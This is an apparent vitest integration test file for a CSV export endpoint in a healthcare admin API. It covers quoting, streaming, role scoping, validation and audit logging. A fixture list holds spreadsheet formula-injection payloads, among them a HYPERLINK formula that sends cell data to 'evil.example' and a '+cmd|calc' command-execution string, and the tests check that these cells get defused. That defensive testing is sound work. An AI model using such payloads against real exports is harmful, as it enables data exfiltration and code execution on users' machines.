import { sql } from 'kysely';
import { beforeAll, describe, expect, test } from 'vitest';
import { can, columnName, getEntity, ROLES, type EntityDef } from '../../src/registry';
import { ident } from '../../src/server/db/entity-table';
import { EXPORT_PAGE } from '../../src/server/crud/export';
import { createRecord, SYSTEM_ACTOR } from '../../src/server/crud/write';
import { fieldsOf, setupApi } from './harness';
import { csvRecords } from '../csv-records';

/**
 * CSV export of a list (GET /api/{resource}/export, issue 10.5): the list's guard, scope, query and order; RFC 4180
 * quoting with a UTF-8 BOM; cells that a spreadsheet would run as formulas defused; several keyset pages streamed
 * (and no more read once the client goes away); the selected rows by ids=; bad parameters 400 before a byte of CSV;
 * write-only fields never; each exported patient in the audit log.
 */
const api = setupApi();
const medicine = getEntity('medicine');
const city = getEntity('city');
const patients = getEntity('patients');
const slots = getEntity('fmcslots');
const column = (def: EntityDef, field: string) => ident(columnName(field, def.fields[field]));

/** RFC 4180 records (quoted cells with doubled quotes, commas and line breaks inside), the BOM checked and dropped. */
function parseCsv(text: string): string[][] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const { records, rest } = csvRecords(text.slice(1));
  expect(rest.cell).toBe('');
  expect(rest.row).toEqual([]);
  return records;
}

/** An export read as bytes (Response.text() would drop the BOM), decoded keeping it, and parsed. */
const exportOf = async (role: keyof typeof api.tokens, url: string) => {
  const res = await api.app.request(url, { headers: { authorization: `Bearer ${api.tokens[role]}` } });
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());
  return { status: res.status, headers: res.headers, text, rows: res.status === 200 ? parseCsv(text) : [] };
};

let stateName = '';
const tricky = {
  comma: 'Paracetamol, 500 mg',
  quote: 'The "strong" one',
  newline: 'Line one\nline two',
  indian: 'अश्वगंधा चूर्ण',
};
const formulas = ['=HYPERLINK("http://evil.example/?"&A1)', '+cmd|calc', '-2+3', '@SUM(A1:A9)', '\tTabbed', '\rReturned'];

beforeAll(async () => {
  const state = await api.insert(getEntity('state'));
  stateName = String(state!.name);
  const med = async (name: string, price: number) => createRecord(api.db, medicine, { ...(await api.payload(medicine)), name, genericName: name, price, form: 'tablet', status: 'active' }, { actor: SYSTEM_ACTOR, scryptLogN: api.config.scryptLogN });
  for (const name of [...Object.values(tricky), ...formulas]) await med(name, 12.5);
  // Many cities straight into the table (no API, no search rows): several export pages, in a known name order.
  await sql`insert into ${sql.raw(ident(city.table))} (${sql.raw(column(city, 'name'))}, ${sql.raw(column(city, 'state'))}, ${sql.raw(column(city, 'status'))})
    select 'Town ' || lpad(g::text, 5, '0'), ${state!.id}, case when g % 3 = 0 then 'inactive' else 'active' end from generate_series(1, ${EXPORT_PAGE * 2 + 234}) g`.execute(api.db);
});

describe('content', () => {
  test('header, quoting, BOM, references by title, enums as values, money with two decimals', async () => {
    const r = await exportOf('superadmin', '/api/medicine/export?sort=name:asc');
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(r.headers.get('content-disposition')).toMatch(/^attachment; filename="medicine-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(r.headers.get('x-total-count')).toBe(String(Object.keys(tricky).length + formulas.length));
    expect(r.rows[0]).toEqual(medicine.columns);
    const byName = new Map(r.rows.slice(1).map((row) => [row[0].replace(/^'/, ''), row]));
    for (const name of Object.values(tricky)) {
      const row = byName.get(name)!;
      expect(row, name).toBeDefined();
      expect(row[medicine.columns.indexOf('price')]).toBe('12.50');
      expect(row[medicine.columns.indexOf('form')]).toBe('tablet');
      expect(row[medicine.columns.indexOf('status')]).toBe('active');
    }
    // Raw text: quotes doubled, the line break inside quotes, records ending CRLF.
    expect(r.text).toContain('"Paracetamol, 500 mg"');
    expect(r.text).toContain('"The ""strong"" one"');
    expect(r.text).toContain('"Line one\nline two"');
    expect(r.text.endsWith('\r\n')).toBe(true);

    const cities = await exportOf('superadmin', `/api/city/export?filter[status]=active&sort=name:asc`);
    expect(cities.rows[0]).toEqual(['name', 'state', 'status']);
    expect(cities.rows.find((row) => row[0] === 'Town 00001')).toEqual(['Town 00001', stateName, 'active']);
    expect(cities.rows.find((row) => row[0] === 'Town 00003')).toBeUndefined(); // inactive: filtered out
  });

  test('headers in the caller\'s words, columns of its choice, in its order', async () => {
    const q = new URLSearchParams([['columns', 'price,name'], ['header', 'Prix'], ['header', '=Nom']]);
    const r = await exportOf('superadmin', `/api/medicine/export?${q}&sort=name:asc`);
    expect(r.status).toBe(200);
    expect(r.rows[0]).toEqual(['Prix', "'=Nom"]);
    expect(r.rows.every((row) => row.length === 2)).toBe(true);
    expect(r.rows.slice(1).map((row) => row[1])).toContain(tricky.indian);
  });

  test('a cell a spreadsheet would run as a formula starts with a single quote', async () => {
    const r = await exportOf('superadmin', '/api/medicine/export?columns=name');
    const names = r.rows.slice(1).map((row) => row[0]);
    for (const f of formulas) expect(names, JSON.stringify(f)).toContain(`'${f}`);
    expect(names).not.toContain(formulas[0]);
    // A number the server wrote from a number field stays a number.
    const range = getEntity('rangemaster');
    const made = await createRecord(api.db, range, { ...(await api.payload(range)), label: 'Below zero', low: -12.5, high: -2, criticalLow: -20, criticalHigh: 5 }, { actor: SYSTEM_ACTOR, scryptLogN: api.config.scryptLogN });
    const ranges = await exportOf('superadmin', `/api/rangemaster/export?columns=label,low,high&ids=${made.id}`);
    expect(ranges.rows[1]).toEqual(['Below zero', '-12.5', '-2']);
  });

  test('write-only fields are never a column', async () => {
    const users = await exportOf('superadmin', '/api/admin-user/export');
    expect(users.status).toBe(200);
    expect(users.rows[0]).not.toContain('password');
    expect(users.text).not.toMatch(/scrypt|\$[0-9a-z]+\$/i);
    const asked = await api.call('superadmin', 'GET', '/api/admin-user/export?columns=email,password');
    expect(asked.status).toBe(400);
    expect(fieldsOf(asked)).toContain('columns');
  });
});

describe('streaming', () => {
  test('every row over several pages, in the list\'s order, ids last', async () => {
    for (const sort of ['name:desc', 'status:asc', 'createdAt:desc']) {
      const exported = await exportOf('superadmin', `/api/city/export?sort=${sort}&columns=id`);
      const listed: number[] = [];
      let cursor: string | null = null;
      do {
        const page: { body: { data: { id: number }[]; nextCursor: string | null } } = await api.call('superadmin', 'GET', `/api/city?sort=${sort}&limit=200${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
        listed.push(...page.body.data.map((r) => r.id));
        cursor = page.body.nextCursor;
      } while (cursor);
      expect(listed.length).toBeGreaterThan(EXPORT_PAGE * 2);
      expect(exported.rows.slice(1).map((r) => Number(r[0])), sort).toEqual(listed);
    }
  });

  test('the answer comes in pieces, page after page', async () => {
    const res = await api.app.request('/api/city/export?columns=name', { headers: { authorization: `Bearer ${api.tokens.superadmin}` } });
    expect(res.headers.get('x-total-count')).toBe(String(await api.count(city)));
    const reader = res.body!.getReader();
    const pieces: number[] = [];
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      pieces.push(new TextDecoder().decode(value).split('\r\n').length - 1);
    }
    // The header row first, on its own, then one piece per page.
    expect(pieces[0]).toBe(1);
    expect(pieces.length).toBeGreaterThanOrEqual(4);
    expect(Math.max(...pieces.slice(1))).toBe(EXPORT_PAGE);
  });

  test('a search with more matches than the list gathers by id: walked in bounded steps, every match once, in order', async () => {
    // 12,000 cities; the term is in every other one of the last 3,000 by name: the first walks find nothing.
    await sql`insert into ${sql.raw(ident(city.table))} (${sql.raw(column(city, 'name'))}, ${sql.raw(column(city, 'state'))}, ${sql.raw(column(city, 'status'))})
      select 'Walk ' || lpad(g::text, 5, '0'), (select id from state limit 1), 'active' from generate_series(1, 12000) g`.execute(api.db);
    await sql`insert into search_index (entity, record_id, title, doc)
      select 'city', c.id, c.name, lower(c.name) || case when substr(c.name, 6)::int > 9000 and substr(c.name, 6)::int % 2 = 0 then ' zedland' else '' end
      from ${sql.raw(ident(city.table))} c where c.name like 'Walk %'`.execute(api.db);
    const exported = await exportOf('superadmin', '/api/city/export?q=zedland&sort=name:asc&columns=id,name');
    expect(exported.headers.get('x-total-count')).toBe('1500');
    const names = exported.rows.slice(1).map((r) => r[1]);
    expect(names).toEqual(Array.from({ length: 1500 }, (_, i) => `Walk ${String(9002 + 2 * i).padStart(5, '0')}`));
  });

  test('a page is read when the client has taken the last one, and none once it goes away', async () => {
    await sql`insert into ${sql.raw(ident(patients.table))} (${sql.raw(['firstName', 'lastName', 'phone', 'status'].map((f) => column(patients, f)).join(', '))})
      select 'Stream', 'Patient ' || lpad(g::text, 5, '0'), '+9170000' || lpad(g::text, 5, '0'), 'active' from generate_series(1, ${EXPORT_PAGE * 6}) g`.execute(api.db);
    // Every page read is audited (patients are health data), one entry a page with its records: the audit log counts
    // the rows the server has read.
    const audited = async () => Number((await sql<{ n: number }>`select coalesce(sum(cardinality(record_ids)), 0)::int as n from audit_log where action = 'read_export' and actor_id = ${api.userIds.admin}`.execute(api.db)).rows[0].n);
    const pause = () => new Promise((resolve) => setTimeout(resolve, 500));
    const res = await api.app.request('/api/patients/export?columns=id', { headers: { authorization: `Bearer ${api.tokens.admin}` } });
    const reader = res.body!.getReader();
    await reader.read(); // the header row
    await reader.read(); // the first page
    await pause();
    // The first page, and the next one waiting for the client: not the rest of the 3,000 rows.
    const waiting = await audited();
    expect(waiting).toBeGreaterThanOrEqual(EXPORT_PAGE);
    expect(waiting).toBeLessThanOrEqual(EXPORT_PAGE * 2);
    await reader.cancel();
    await pause();
    expect(await audited()).toBe(waiting);
  });
});

describe('selected rows', () => {
  test('ids= exports those rows, in the list order', async () => {
    const all = await exportOf('superadmin', '/api/city/export?columns=id,name&sort=name:asc');
    const picked = [all.rows[40], all.rows[3], all.rows[700]].map((r) => Number(r[0]));
    const r = await exportOf('superadmin', `/api/city/export?columns=id,name&sort=name:asc&ids=${picked.join(',')}`);
    expect(r.headers.get('x-total-count')).toBe('3');
    expect(r.rows.slice(1).map((row) => Number(row[0]))).toEqual([...picked].sort((a, b) => a - b));
  });

  test('at most 1000 ids, and only ids', async () => {
    const many = Array.from({ length: 1001 }, (_, i) => i + 1).join(',');
    for (const ids of [many, 'abc', '1,,2', '0', '99999999999']) {
      const r = await api.call('superadmin', 'GET', `/api/city/export?ids=${ids}`);
      expect(r.status, ids.slice(0, 20)).toBe(400);
      expect(fieldsOf(r)).toContain('ids');
    }
    expect((await api.call('superadmin', 'GET', `/api/city/export?ids=${Array.from({ length: 1000 }, (_, i) => i + 1).join(',')}`)).status).toBe(200);
  });
});

describe('who may export what', () => {
  test('the roles that may list, and no others', async () => {
    for (const def of [medicine, city, patients, getEntity('doctor'), slots]) {
      for (const role of ROLES) {
        const r = await api.call(role, 'GET', `/api/${def.api}/export`);
        expect(r.status, `${role} ${def.name}`).toBe(can(role, def.name, 'list') ? 200 : 403);
      }
    }
    expect((await api.call('anonymous', 'GET', '/api/medicine/export')).status).toBe(401);
  });

  test("another centre's records are not in an fmc user's or a doctor's export, not even by id", async () => {
    const fmc = getEntity('fmc');
    const centreB = await createRecord(api.db, fmc, (await api.payload(fmc))!, { actor: SYSTEM_ACTOR, scryptLogN: api.config.scryptLogN });
    const slotB = await createRecord(api.db, slots, { ...(await api.payload(slots)), fmc: centreB.id }, { actor: SYSTEM_ACTOR, scryptLogN: api.config.scryptLogN });
    const slotA = await api.insert(slots);
    for (const role of ['fmc', 'doctor'] as const) {
      const r = await exportOf(role, '/api/fmcslots/export?columns=id,fmc');
      const ids = r.rows.slice(1).map((row) => Number(row[0]));
      expect(ids, role).toContain(slotA!.id);
      expect(ids, role).not.toContain(slotB.id);
      const byId = await exportOf(role, `/api/fmcslots/export?columns=id&ids=${slotB.id},${slotA!.id}`);
      expect(byId.rows.slice(1).map((row) => Number(row[0]))).toEqual([slotA!.id]);
      const centres = await exportOf(role, '/api/fmc/export?columns=id');
      expect(centres.rows.slice(1).map((row) => Number(row[0]))).not.toContain(centreB.id);
    }
    const all = await exportOf('superadmin', '/api/fmcslots/export?columns=id');
    expect(all.rows.slice(1).map((row) => Number(row[0]))).toContain(slotB.id);
  });
});

test('bad parameters answer 400 naming them, before any CSV', async () => {
  const bad: [string, string][] = [
    ['nonsense=1', 'nonsense'],
    ['limit=10', 'limit'],
    ['cursor=[1,2]', 'cursor'],
    ['sort=bogus:asc', 'sort'],
    ['sort=name:sideways', 'sort'],
    ['filter[bogus]=1', 'filter[bogus]'],
    ['filter[status]=sideways', 'filter[status]'],
    ['columns=name,nosuchfield', 'columns'],
    ['columns=name,name', 'columns'],
    ['columns=', 'columns'],
    ['columns=name&columns=state', 'columns'],
    ['columns=name,state&header=Only one', 'header'],
    [`header=${'x'.repeat(201)}&columns=name`, 'header'],
    [`q=${'x'.repeat(201)}`, 'q'],
  ];
  for (const [qs, field] of bad) {
    const r = await api.call('superadmin', 'GET', `/api/city/export?${qs}`);
    expect(r.status, qs).toBe(400);
    expect(r.headers.get('content-type'), qs).toMatch(/json/);
    expect(fieldsOf(r), qs).toContain(field);
  }
  const range = await api.call('superadmin', 'GET', '/api/medicine/export?filter[price]=cheap..dear');
  expect(range.status).toBe(400);
});

test('each exported patient is in the audit log, in the exporter\'s name', async () => {
  const made = [];
  for (let i = 0; i < 3; i++) made.push(await createRecord(api.db, patients, { ...(await api.payload(patients)), firstName: 'Audited', lastName: `Export ${i}` }, { actor: SYSTEM_ACTOR, scryptLogN: api.config.scryptLogN }));
  const ids = made.map((p) => Number(p.id));
  const r = await exportOf('superadmin', `/api/patients/export?ids=${ids.join(',')}`);
  expect(r.rows.length).toBe(4);
  const logged = await sql<{ record_id: number; actor_id: number }>`select unnest(record_ids) as record_id, actor_id from audit_log
    where action = 'read_export' and entity = 'patients' and record_ids && ${ids}::int[]`.execute(api.db);
  expect(logged.rows.map((l) => l.record_id).sort()).toEqual([...ids].sort());
  expect(new Set(logged.rows.map((l) => l.actor_id))).toEqual(new Set([api.userIds.superadmin]));
  // Other entities' exports are not health data: no read is logged.
  const before = Number((await sql<{ n: number }>`select count(*)::int as n from audit_log where action = 'read_export' and entity = 'city'`.execute(api.db)).rows[0].n);
  await api.call('superadmin', 'GET', '/api/city/export');
  expect(before).toBe(0);
  expect(Number((await sql<{ n: number }>`select count(*)::int as n from audit_log where action = 'read_export' and entity = 'city'`.execute(api.db)).rows[0].n)).toBe(0);
});
